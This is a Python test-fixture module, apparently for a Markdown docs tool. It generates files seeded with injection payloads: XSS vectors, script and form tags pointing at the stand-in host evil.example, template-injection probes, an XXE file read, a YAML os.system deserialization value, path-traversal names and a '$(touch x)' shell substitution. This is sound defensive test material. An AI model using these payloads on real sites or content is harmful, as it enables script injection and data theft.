"""Texts that mean harm, and a handbook of them: each would run `alert`, or ask another host, were it taken for more."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0b>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<img/src=`x`onerror=alert(1)//",
    "<img src=//evil.example/x.png>",
    "<image href=//evil.example/x.png>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import '//evil.example/x.css'; *{display:none}</style>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<form action=//evil.example/><button>x</button></form>",
    "</section></article></main><img src=x onerror=alert(1)>",
    "</dd></dl></details><img src=x onerror=alert(1)>",
    "</td></tr></table><img src=x onerror=alert(1)>",
)
"""HTML, whole and broken, and ends of the elements that others stand in."""

ATTRIBUTES = (
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    '" style="background:url(//evil.example/x.png)" x="',
    '" src="//evil.example/x.png" onerror="alert(1)',
    "` onclick=alert(1) `",
    "x onload=alert(1) y",
)
"""Ends of attributes."""

VECTORS = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "</text></svg><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><use href='//evil.example/x.svg#x'/></svg>",
)
"""SVG, in pages and in badges that are opened alone."""

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://evil.example/x",
    "\\\\evil.example\\x",
)
"""Addresses that run something or lead away."""

ENTITIES = (
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&quot; onmouseover=&quot;alert(1)",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
"""Marks written otherwise, that come alive when they are decoded once too often."""

TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{0.__class__.__init__.__globals__}",
    "%(asctime)s %s %n",
    "${alert(1)} #{7*7} <%= 7*7 %>",
)
"""What templates and formats would work out."""

FORMATS = (
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>&e;',
    "<?xml-stylesheet href='//evil.example/x.xsl' type='text/xsl'?>",
    "</title></entry></feed><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "x\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///bin/sh\r\nEND:VALARM",
    "x\nEND:VEVENT\nBEGIN:VEVENT\nUID:evil\nSUMMARY:evil",
    "x;ATTACH=//evil.example,y\\n:z",
    '"}]}</script><script>alert(1)</script>',
)
"""Ends of what feeds, calendars and JSON keep texts in."""

LETTERS = (
    "\u202egpj.exe\u202c alert(1)",
    "\u2066\u2067x\u2069\u2069",
    "nul\x00byte",
    "esc\x1b[31mred\x1b]0;title\x07",
    "\ufeff\ufffe\uffff\u2028\u2029",
    "\U000e0041\u200b\u200d",
    "Z\u0351\u036b\u0343\u036a\u0302" * 40,
    "unbreakable" * 400,
    "A" * 5_000,
)
"""Letters that are not seen, turn others round, or do not end."""

MARKDOWN = (
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "` `` ``` <img src=x onerror=alert(1)>",
    "{: onclick=alert(1) }",
    "|a|b|\n|-|-|\n|<img src=x onerror=alert(1)>|",
    "[[../../etc/passwd|<img src=x onerror=alert(1)>]]",
    "--- \n# <img src=x onerror=alert(1)>",
    "```asyncdocs\nview: scoreboard\n```",
)
"""Ends and beginnings of Markdown."""

PATHS = (
    "../../x",
    "..",
    ".",
    "../index",
    "/etc/passwd",
    "..\\..\\x",
    "%2e%2e%2fx",
    "..%00/x",
    "con",
    "nul.txt",
    "a/b",
    "x" * 300,
    ".htaccess",
    "~root",
    "$(touch x)",
    "-rf",
    "a:b",
)
"""Names that would be files elsewhere."""

YAML = (
    "*nobody",
    "&x [*x]",
    "!!python/object/apply:os.system ['touch x']",
    "{a: {b: c}}",
    "[[[[]]]]",
    "2026-13-45",
    "0x41",
    "yes: no",
    "'",
    "| \n  x",
    "<<: *x",
    "1e999",
)
"""What YAML reads otherwise, written into front matter as it is."""

TEXTS = MARKUP + ATTRIBUTES + VECTORS + ADDRESSES + ENTITIES + TEMPLATES + FORMATS + LETTERS + MARKDOWN + PATHS
"""Payloads that are a text wherever they stand."""

ALL = TEXTS + YAML

FILES = (
    "<img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    '" onmouseover="alert(1)',
    "javascript:alert(1)",
    "{{ 7 * 7 }}",
    "%2e%2e%2fx",
    "x..%2f..%2fx",
    "&lt;b&gt;",
    "con",
    "x#y",
    "x?y=1&z",
    "[x](y)",
    "\u202egpj",
    "-rf",
    "x" * 150,
)
"""Names that files can have where there are no drive letters."""


def quoted(text: str) -> str:
    """A text as YAML reads it back: in double quotes, with what cannot stand in them escaped."""
    escaped = (each if each.isprintable() and each not in '"\\' else f"\\U{ord(each):08x}" for each in text)
    return '"' + "".join(escaped) + '"'


def _escaped(text: str) -> str:
    """A text that Markdown shows as it is: every mark of HTML or Markdown is written by its number."""
    return "".join(each if each.isalnum() or each in " .-" else f"&#{ord(each)};" for each in _line(text))


def _line(text: str) -> str:
    return " ".join("".join(each if each.isprintable() else " " for each in text).split())


def _code(text: str) -> str:
    fence = "`" * (1 + max(map(len, _runs(text)), default=0))
    return f"{fence} {_line(text)} {fence}"


def _runs(text: str) -> list[str]:
    runs = "".join(each if each == "`" else " " for each in text)
    return runs.split()


def handbook() -> dict[str, str]:
    """All payloads in all places where a document tells something, by file.

    What stands in the body is written so that Markdown itself shows it as text: as code, or by numbers of its letters. HTML that
    is written raw comes alive on its own page, by its author's wish; it stands in `raw/`, whose own pages are not opened, but
    whose words are told by the views and by the pages that it points at.
    """
    files = {
        "index.md": "# Home\n\nSee SPEC-9000.\n",
        "spec.md": "---\nid: SPEC-9000\nkind: spec\n---\n\n# All point here\n\n## Context\n\nIt is harmless.\n",
    }
    for number, text in enumerate(TEXTS):
        files[f"texts/{number:03}.md"] = _document(number, quoted(text), text)
    for number, text in enumerate(YAML):
        files[f"yaml/{number:03}.md"] = _document(len(TEXTS) + number, text, text)
    for number, text in enumerate(PATHS):
        files[f"ids/{number:03}.md"] = (
            f"---\nkind: spec\nid: {quoted(text)}\nstatus: accepted\n---\n\n# Id {number}\n\nText.\n"
        )
    for name in FILES:
        files[f"files/{name}/{name}.md"] = (
            "---\nkind: spec\n---\n\n# A file\n\n## Context\n\nIt leads to [one](../../texts/000.md).\n"
        )
    lines = [_line(text) for text in TEXTS]
    files["glossary.md"] = _glossary(map(_escaped, lines))
    files["people.md"] = "# People\n\n| Name | Time zone |\n| - | - |\n" + "".join(
        f"| {_escaped(line)} | {_escaped(line)} |\n" for line in lines
    )
    files["raw/glossary.md"] = _glossary(line.replace("|", "\\|") for line in lines)
    files["raw/spec.md"] = _raw(lines)
    files["asks.md"] = "# Asks\n\n" + "\n".join(
        f"```asyncdocs\n{key}: {quoted(text)}\n```\n" for text in TEXTS for key in ("view", "kind", "title", "sort")
    )
    return files


def _document(number: int, value: str, text: str) -> str:
    code, plain = _code(text), _escaped(text)
    return f"""\
---
kind: {"decision" if number % 3 == 0 else "spec"}
id: {"ADR" if number % 3 == 0 else "SPEC"}-{number + 1}
title: {value}
status: {value}
owner: {value}
deciders: [{value}]
tags: [{value}]
created: {value}
review-by: {"2026-01-02" if number % 2 else value}
comment-by: 2026-12-01
zone: {value}
supersedes: {value}
depends-on: [{value}, "SPEC-9000"]
---

# {code}

## Context {plain}

{plain} is told in [{code}](000.md "{plain}") as SPEC-9000 says, and {plain} was discussed with Dave on Slack.

## {code}

- [ ] {plain} returns {code} within 3 s.

## Open questions

- Who decides about {plain} and {code}?

## Not now

TBD {plain}
"""


def _glossary(words: object) -> str:
    rows = "".join(f"| {word} | Means {word} |\n" for word in words)  # type: ignore[attr-defined]
    return f"---\nkind: glossary\n---\n\n# Terms\n\n| Term | Meaning |\n| - | - |\n{rows}"


def _raw(lines: list[str]) -> str:
    parts = [f"## {line}\n\n{line} stands before [{line}](../spec.md) and {line} after SPEC-9000.\n" for line in lines]
    asked = [f"- Who decides about {line}?" for line in lines]
    return "\n".join(["---\nkind: spec\nid: RAW-1\n---\n\n# Raw\n", *parts, "## Open questions\n", *asked, ""])
